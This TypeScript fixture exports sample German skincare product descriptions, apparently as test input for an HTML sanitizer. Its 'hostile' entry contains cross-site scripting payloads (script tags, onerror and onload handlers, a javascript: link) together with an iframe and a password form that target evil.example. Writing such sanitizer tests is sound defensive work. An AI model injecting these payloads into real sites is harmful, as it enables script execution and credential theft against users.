/** As shops write them in the platform's field, which takes lines, HTML and anything else. */
export const descriptions = {
  written:
    '<p>Ein leichtes <strong>Serum</strong> f&uuml;r jeden Morgen.<br>Ohne Duftstoffe.</p>' +
    '<ul><li>zieht schnell ein</li><li>30 ml &ndash; reicht f&uuml;r drei Monate</li></ul>' +
    '<p style="color:red;position:fixed"><span>Dermatologisch getestet.</span></p>',
  lines: 'Für trockene Haut < 30 Jahre.\nMorgens und abends auftragen.\n\nVegan & ohne Mikroplastik.',
  hostile:
    '<p onclick="alert(1)">Pflegt.</p><script>alert(2)</' +
    'script><img src=x onerror="alert(3)"><svg onload="alert(4)"></svg>' +
    '<a href="javascript:alert(5)">mehr</a><iframe src="https://evil.example/"></iframe><style>*{display:none}</style>' +
    '<form action="https://evil.example/"><input name="password"></form><p>&lt;script&gt;alert(6)&lt;/script&gt;</p>',
}
